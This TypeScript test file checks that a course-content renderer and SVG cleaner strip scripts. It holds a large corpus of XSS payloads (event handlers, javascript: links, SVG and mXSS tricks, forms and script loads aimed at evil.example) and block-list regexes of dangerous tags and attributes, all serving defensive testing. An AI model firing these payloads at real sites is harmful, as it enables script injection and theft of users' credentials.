import { describe, expect, test } from 'vitest';
import { cleanSvg } from '../pictures/clean-svg.ts';
import { aCourse, aLesson, build, filesOf, render } from '../testing/content.ts';

/** Markup that would run script, load something or take over ids, by as many ways as are known to us. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src=`x` onerror=alert(1)//`>',
  '<b onclick=alert(1)>x</b>',
  '<p onmouseover="alert(1)" onfocus=alert(1) tabindex=0>x</p>',
  '<a href="https://example.com" onpointerdown=alert(1)>x</a>',
  '<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>',
  '<iframe src="https://player.vimeo.com/video/1%22onload=alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/embed/%22%3E%3Cb%3Eabcde"></iframe>',
  '<iframe src="https://players.brightcove.net/1/x/index.html?videoId=1%22x" onload=alert(1)></iframe>',
  '<svg onload=alert(1)><g onclick=alert(1)>x</g></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](y.png)',
  '[x](https://example.com/"onmouseover="alert(1))',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div id="root" class="modal">x</div>',
  '<a name="config" id="root">x</a>',
  '<form id=a><input name=attributes></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x-foo onclick=alert(1)>x</x-foo>',
  '<button data-copy onclick=alert(1)>x</button>',
  '<div class="video-embed" data-provider="vimeo" data-video-id="javascript:1">x</div>',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '```<script>alert(1)</script>\nx\n```',
  'a|<script>alert(1)</script>\n-|-\n<img src=x onerror=alert(1)>|b',
  '<table><td><script>alert(1)</script></table>',
  '# <img src=x onerror=alert(1)>',
  '<a href="https://example.com" target=_top rel=opener>x</a>',
];

const ALLOWED_HREF = /^(?:https:\/\/|mailto:|\/(?!\/)|\.{1,2}\/|#c-|#$)/;

/** Reads HTML as a browser would split it into tags: quoted values are values, never markup. */
function tagsOf(html: string): { name: string; attributes: Map<string, string> }[] {
  const tags = html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*>/g);
  return [...tags].map(([, name = '', rest = '']) => ({
    name,
    attributes: new Map(
      [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }));
}

function expectHarmless(html: string): void {
  // Every `<` that is not part of a tag we write is escaped, so the pattern below sees every tag there is.
  const rest = html.replace(/<\/?[a-z][a-z0-9]*(?:\s+[^\s=>]+(?:="[^"]*")?)*\s*>/g, '');
  expect(rest).not.toContain('<');
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).not.toMatch(
      /^(?:script|style|iframe|object|embed|form|input|meta|base|link|svg|math|template|textarea|video)$/,
    );
    for (const [key, value] of attributes) {
      expect(key).not.toMatch(/^on|^style$|^srcdoc$|^srcset$|^action$|^formaction$/);
      if (key === 'href' || key.startsWith('data-href')) expect(value).toMatch(ALLOWED_HREF);
      if (key === 'src') expect(value).toMatch(/^\/assets\/content\/[0-9a-f]{64}\.\w+$/);
      if (key === 'id' || key === 'name') expect(value).toMatch(/^c-/);
      if (key === 'target') expect(attributes.get('rel')).toBe('noopener noreferrer');
      if (key === 'data-video-id') expect(value).toMatch(/^[\w-]+$/);
    }
  }
}

describe('no markup of content runs script', () => {
  test.each(CORPUS)('%s', async (attack) => {
    for (const text of [attack, `- a\n\n  ${attack}`, `> ${attack}`, `text ${attack} text`]) {
      for (const form of ['page', 'summary', 'note'] as const) expectHarmless((await render(text, { form })).html);
    }
  });

  test('wherever HTML can stand: course, lesson, shortcodes, links, names', async () => {
    for (const attack of CORPUS) {
      const inShortcodes = ['alert', 'checks', 'figure', 'embed', 'conditional-cta']
        .map((name) => {
          const fields = {
            text: attack,
            list: attack,
            image: attack,
            alt: attack,
            caption: attack,
            html: attack,
            type: attack,
          };
          return `@@@${name}\n${JSON.stringify({ ...fields, attrGuest: `href="${attack}"`, attrAuth: attack })}\n@@@`;
        })
        .join('\n\n');
      const settings = { links: [{ text: attack, url: attack }], vimeo: attack, educates: attack, labUrl: attack };
      const result = await build(
        aCourse({
          'summary.md': inShortcodes,
          'conclusion.md': attack,
          'description.md': attack,
          '01-start/01-hello/lesson.json': aLesson('hello', { settings }),
          '01-start/01-hello/content.md': inShortcodes,
          '01-start/01-hello/transcript.md': attack,
          '01-start/01-hello/summary.md': attack,
          '01-start/02-lab/preview.md': attack,
        }),
      );
      if (result.refused || result.item.kind !== 'course') throw new Error('refused');
      const { data, lessons } = result.item;
      const texts = [
        data.summary,
        data.conclusion,
        ...lessons.flatMap(({ data, body }) => [data.summary, body.html, body.transcript, body.preview]),
      ];
      for (const html of texts) expectHarmless(html ?? '');
      for (const { url } of lessons.flatMap(({ body }) => body.links)) expect(url).toMatch(ALLOWED_HREF);
    }
  });

  test('script is told with its line', async () => {
    const { findings } = await render(
      'a\n\nb <b onclick="x()">c</b>\n\n<script>\nx()\n</script>\n\n[d](javascript:x)\n',
    );
    expect(findings.map(({ line, severity, code }) => `${line} ${severity} ${code}`)).toEqual([
      '3 error script-removed',
      '5 error script-removed',
      '9 error script-removed',
    ]);
  });
});

describe('no drawing runs script', () => {
  test.each([
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script xlink:href="https://evil.example/x.js"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src="https://evil.example"/></foreignObject></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg><style>@import url(https://evil.example/x.css)</style></svg>',
    '<svg><rect style="fill:url(https://evil.example/x)" fill="url(//evil.example)"/></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>',
    '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg></svg><script>alert(1)</script>',
  ])('%s', (attack) => {
    const svg = cleanSvg(attack)?.svg ?? '';
    expect(svg).not.toMatch(
      /<script|<image|<a[\s>]|<style|<set|<animate|<foreignObject|<iframe|<img|evil|javascript|\son\w+=/i,
    );
  });

  test('what is drawn stays', () => {
    const drawing =
      '<svg width="20" height="10"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect fill="url(#g)" style="stroke:red;stroke-width:2px"/></svg>';
    const clean = cleanSvg(drawing);
    expect(clean).toMatchObject({ width: 20, height: 10, removed: null });
    expect(clean?.svg).toContain('<linearGradient id="g"><stop offset="0" stop-color="#fff" /></linearGradient>');
    expect(clean?.svg).toContain('<rect fill="url(#g)" stroke="red" stroke-width="2px" />');
  });

  test('a drawing with script is told and served without it', async () => {
    const files = filesOf({ '01-a/x.svg': '<svg onload="x()"><path d="M0 0"/></svg>' });
    const { findings, shelf } = await render('![x](x.svg)', { files });
    expect(findings.map(({ file, code, severity }) => [file, severity, code])).toEqual([
      ['01-a/x.svg', 'error', 'script-removed'],
    ]);
    expect(new TextDecoder().decode(shelf.list()[0]?.bytes)).not.toContain('onload');
  });
});
